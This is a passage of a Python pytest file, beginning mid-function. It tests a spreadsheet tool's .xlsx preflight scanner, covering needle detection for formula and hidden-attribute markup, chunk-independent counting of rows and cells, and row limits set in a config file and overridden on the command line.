    limits = replace(Limits(), max_rows=10**10, max_columns=10**6, max_cells=10**17)
    at = min((middle.find(n) for n in check_bytes.EXTRAS_NEEDLES if n in middle), default=0)
    chunk = xml.index(middle) + at + split if middle else 1 << 20  # in the needle, or the cell
    monkeypatch.setattr(check_bytes, "CHUNK", chunk)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = check_bytes._sheet_parts(archive, set(archive.namelist()), limits)
        check_bytes._scan_members(archive, archive.infolist(), sheets, limits)
    assert sheets[SHEET] == ordered
    plain = check_bytes.run_preflight(data, "x.xlsx", limits).plain_parts
    assert (SHEET in plain) is not needles


_XML_PIECES = [b'<c r="A1">', b"<f>", b"<x:f ", b"f", b"h", b"<", b":", b't="e"', b't="s"']
_XML_PIECES += [b'hidden="1"', b"hidden", b"<row", b"e", b'"', b"<v>1</v>", b"Regeling"]


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(_XML_PIECES), max_size=12).map(b"".join))
def test_needles_are_found_as_a_search_for_each_finds_them(window: bytes) -> None:
    from reconcile.read import check_bytes

    wanted = any(needle in window for needle in check_bytes.EXTRAS_NEEDLES)
    assert check_bytes.holds_needles(window) is wanted


_ROWS_AND_CELLS = [  # (what is put in the middle of row 150, as in _MIDDLES)
    b"",
    b'</row><row spans="1:2" r="151"><c r="D151"/>',
    b"</row><row><c><v>1</v></c>",  # a row and a cell in order, neither saying where it is
    b'</row><row r="160" spans="1:2"/><row>',
    b'</row><row\tr="999"/><rowBreaks/><c s="1"><v>2</v></c>',
]


@pytest.mark.parametrize("middle", _ROWS_AND_CELLS)
def test_cells_are_counted_as_in_order_wherever_the_chunks_break(
    middle: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every chunk size from a few bytes to the whole sheet: the counts of reading the tags in
    order, however the rows are written and wherever a chunk ends (in a row, after it)."""
    from dataclasses import replace

    from reconcile.read import check_bytes

    xml = _sheet_of_rows(middle)
    ordered = check_bytes._SheetCount("Reservering")
    check_bytes._count_in_order(ordered, check_bytes._TAG.findall(xml), [0, 0])
    data = zip_members([(n, xml if n == SHEET else d) for n, d in honest_members()])
    limits = replace(Limits(), max_rows=10**10, max_columns=10**6, max_cells=10**17)
    for chunk in [*range(40, 120, 7), 1000, 4096, 1 << 20]:
        monkeypatch.setattr(check_bytes, "CHUNK", chunk)
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            sheets = check_bytes._sheet_parts(archive, set(archive.namelist()), limits)
            check_bytes._scan_members(archive, archive.infolist(), sheets, limits)
        counted = sheets[SHEET]
        assert (counted.cells, counted.last_row, counted.last_column) == (
            ordered.cells,
            ordered.last_row,
            ordered.last_column,
        ), chunk


def test_limits_can_be_set_in_the_configuration_file(tmp_path: Path) -> None:
    config = tmp_path / "reconcile.toml"
    config.write_text("max-rows = 5\n")
    code, stdout, _ = _run("--config", str(config), "validate", str(EXAMPLE / "EZ.xlsx"))
    assert code == 2
    assert "[limit-exceeded] The file uses 13 rows in this sheet, more than the limit" in stdout
    raised = _run("--config", str(config), "validate", "--max-rows", "13", str(EXAMPLE / "EZ.xlsx"))
    assert raised[0] == 0  # the command line wins over the file
